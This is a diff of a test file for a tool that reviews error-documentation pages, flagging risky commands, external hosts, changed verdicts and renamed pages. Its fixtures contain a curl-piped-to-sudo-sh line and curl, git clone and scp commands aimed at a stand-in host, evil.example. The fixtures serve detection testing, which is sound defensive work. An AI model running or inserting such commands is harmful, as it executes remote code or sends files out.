@@ -93,11 +93,20 @@ describe('the commands of a report', () => {
 		`detail: |\n${['Run:', '', `\`\`\`${lang}`, ...lines, '```'].map((line) => `      ${line}`).join('\n')}`;
 
 	test.each([
-		['of a fix', fence('sh', '# why', '$ gizmo reset', ''), [['gizmo reset', []]]],
+		[
+			'of a fix',
+			fence('sh', '# why', '$ gizmo reset', ''),
+			[['gizmo reset', ['starts something new']]],
+		],
 		[
 			'whole, over several lines',
 			fence('bash', 'curl -s https://example.com/x \\', '  | sudo \\', '  sh'),
-			[['curl -s https://example.com/x | sudo sh', ['pipes into a shell', 'changes permissions']]],
+			[
+				[
+					'curl -s https://example.com/x | sudo sh',
+					['pipes into a shell', 'changes permissions', 'starts something new'],
+				],
+			],
 		],
 		[
 			'in another language, if they do something to look at',
@@ -152,6 +161,9 @@ describe('the hosts of a report', () => {
 		['behind a name', '[this](https://example.com@evil.example/x)', ['evil.example']],
 		['of a bare address', 'see https://Evil.example:8080/x.', ['evil.example:8080']],
 		['of an address in code', '`curl https://evil.example/x`', ['evil.example']],
+		['of an address without a scheme', '`curl -o x.json evil.example/x`', ['evil.example']],
+		['of another scheme', '`git clone ssh://git@evil.example/x`', ['evil.example']],
+		['of a remote', '`scp x.txt me@evil.example:x`', ['evil.example']],
 		['that only Markdown shows', '[this](https&#58;//evil.example)', ['evil.example']],
 		['but none that are cited already', '[this](https://example.com/other)', []],
 	])('are those %s', (_, text, expected) => {
@@ -160,15 +172,34 @@ describe('the hosts of a report', () => {
 	});
 });
 
+const quickFix = /^quick_fix: .*$/m.exec(entryText)?.[0] ?? '';
+
 test('the verdicts of a report are those that change, with what they were', () => {
 	const { verdicts } = reportOn(
 		['when: "never"', 'when: "backoff"'],
 		['status: "by-design"', 'status: "fixed"'],
+		[quickFix, 'quick_fix: "Download the tool and start it."'],
 		['condition: "A longer', 'condition: "The longer'],
 	);
 	expect(verdicts.first).toEqual([
 		{ page, field: 'retry.when', from: 'never', to: 'backoff' },
 		{ page, field: 'status', from: 'by-design', to: 'fixed' },
+	]);
+});
+
+test('a quick fix stands with the verdicts when its page is not among those whose words are shown', () => {
+	const pages = Array.from({ length: 11 }, (_, i) => `errors/example-api/more-${i + 10}.mdx`);
+	const all = (text: string) => content(Object.fromEntries(pages.map((path) => [path, text])));
+	const changed = entryText.replace(quickFix, 'quick_fix: "Download the tool and start it."');
+	const { verdicts, differences } = reviewReport(all(entryText), all(changed));
+	expect(differences.first).toHaveLength(10);
+	expect(verdicts.first).toEqual([
+		{
+			page: 'errors/example-api/more-20',
+			field: 'quick_fix',
+			from: quickFix.slice('quick_fix: "'.length, -1),
+			to: 'Download the tool and start it.',
+		},
 	]);
 });
 
@@ -311,6 +342,38 @@ test('the files of a report are those that make no page, those that matter most 
 	]);
 });
 
+describe('a page of a report says', () => {
+	const pagesOf = (changes: Readonly<Record<string, string | undefined>>) =>
+		reviewReport(content(), content(changes)).pages.first;
+	const moved = entryText.replace('example-api/prompt-too-long', 'example-api/too-many-words');
+	const long = `errors/example-api/${'x'.repeat(200)}.mdx`;
+
+	test('where it is, and what it was called before', () => {
+		const found = pagesOf({ [entryPath]: undefined, 'errors/example-api/other.mdx': moved });
+		expect(found).toEqual([
+			{
+				collection: 'errors',
+				id: 'example-api/other',
+				title: expect.any(String) as string,
+				change: 'renamed',
+				from: 'example-api/too-many-words',
+				page: 'errors/example-api/other/',
+			},
+		]);
+	});
+
+	test('nothing of an earlier name when it only changes', () => {
+		const [found] = pagesOf({ [entryPath]: entryText.replace('title: "', 'title: "New: ') });
+		expect(Object.keys(found ?? {})).toEqual(['collection', 'id', 'title', 'change', 'page']);
+	});
+
+	test('no address that is too long for the comment', () => {
+		const found = pagesOf({ [long]: entryText }).find(({ change }) => change === 'added');
+		expect(found?.id).toMatch(/^example-api\/x+…$/);
+		expect(found).not.toHaveProperty('page');
+	});
+});
+
 describe('a report', () => {
 	test('keeps to its schema, however long the fields and however many the pages', () => {
 		const long = Array.from({ length: 20_000 }, (_, i) => `w${i}`).join(' ');
@@ -353,4 +416,22 @@ describe('a report', () => {
 	])('that is %s is refused', (_, json, message) => {
 		expect(() => parseReview(json)).toThrow(message);
 	});
+});
+
+test('a page whose fixes change, or that is renamed, comes before those with other words', () => {
+	const titled = (id: string) => entryText.replace('The prompt has too many words', `Of ${id}`);
+	const at = (id: string) => `errors/example-api/${id}.mdx`;
+	const ids = ['a', 'b', 'c', 'd'];
+	const base = content(Object.fromEntries(ids.map((id) => [at(id), titled(id)])));
+	const head = content({
+		[at('a')]: `${titled('a')}\nMore.\n`,
+		[at('b')]: `${titled('b')}\nMore.\n`,
+		[at('c')]: titled('c').replace('Replace the oldest messages', 'Remove the oldest messages'),
+		[at('d')]: undefined,
+		[at('e')]: titled('d').replace('aliases:', 'aliases:\n  - "example-api/d"'),
+	});
+	const { pages } = reviewReport(base, head);
+	expect(pages.first.map(({ id }) => id)).toEqual(
+		['c', 'e', 'a', 'b'].map((id) => `example-api/${id}`),
+	);
 });
